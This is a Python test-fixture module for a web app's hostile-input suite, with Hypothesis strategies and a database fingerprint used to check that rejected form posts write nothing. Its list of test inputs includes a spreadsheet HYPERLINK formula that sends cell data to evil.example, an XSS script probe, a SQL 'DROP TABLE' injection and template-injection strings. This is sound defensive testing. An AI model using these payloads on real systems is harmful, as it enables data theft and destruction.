"""Shared pieces of the hostile-input suite: a module-scoped app, hostile text, and a database fingerprint.

Hypothesis runs many examples per test; a fresh database per example would be slow, so each
module gets one copy of the seeded database and checks "nothing was written" with a fingerprint
of every table taken before and after each refused request.
"""

from __future__ import annotations

import hashlib
import re
import shutil

import pytest
import sqlalchemy as sa
from hypothesis import strategies as st

from tests.conftest import _make_app

# Text a hostile or careless user might paste into any field.
SPECIALS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击")',
    "=1+2",
    "+1",
    "-1",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "１２３",
    "１２．５",
    "－５",
    "５０％",
    "１，０００",
    "٣٤٥",
    "१२",
    "Ⅻ",
    "½",
    "1e309",
    "NaN",
    "inf",
    "-0",
    "9" * 400,
    "0." + "0" * 400 + "1",
    "\x00",
    "\x00\x01\x1f\x7f",
    "\u202e1234",
    "\ufeff5",
    " ",
    "\n\n",
    "<script>alert(1)</script>",
    "'; DROP TABLE indicator; --",
    "%s%n",
    "{{7*7}}",
    "2023-02-30",
    "9999-12-31",
    "0000-00-00",
    "2023/1/1",
    "x" * 10_000,
    "填" * 10_000,
    "\U0001f600" * 3000,
]
hostile_text = st.one_of(
    st.sampled_from(SPECIALS),
    st.text(max_size=40),
    st.text(alphabet="０１２３４５６７８９．－，％＋", min_size=1, max_size=12),
    st.text(alphabet=st.characters(max_codepoint=0x1F), max_size=20),
    # A lone surrogate cannot travel in a UTF-8 form post (the test client refuses to encode it,
    # as a browser would), so the long runs leave them out.
    st.builds(lambda char, n: char * n, st.characters(exclude_categories=("Cs",)), st.integers(2_000, 10_000)),
)

_FIELD = re.compile(r'<(?:input|select|textarea)\b[^>]*\bname="([^"]+)"')


def form_fields(html: str) -> list[str]:
    """Every named field on the page except the CSRF token, in page order, without repeats."""
    return [name for name in dict.fromkeys(_FIELD.findall(html)) if name != "csrf_token"]


def fingerprint(engine) -> str:
    """A digest of every row of every table: equal before and after means nothing was written."""
    digest = hashlib.sha256()
    with engine.connect() as conn:
        for table in sorted(sa.inspect(conn).get_table_names()):
            rows = conn.execute(sa.text(f'SELECT * FROM "{table}"')).all()
            digest.update(table.encode())
            for row in sorted(repr(tuple(row)) for row in rows):
                digest.update(row.encode())
    return digest.hexdigest()


@pytest.fixture(scope="module")
def module_app(tmp_path_factory, seeded_sqlite_template):
    """One app per test module, on its own copy of the seeded database."""
    path = tmp_path_factory.mktemp("hostile") / "kpi.sqlite3"
    shutil.copy(seeded_sqlite_template, path)
    app = _make_app(f"sqlite:///{path}")
    yield app
    app.extensions["kpi_engine"].dispose()
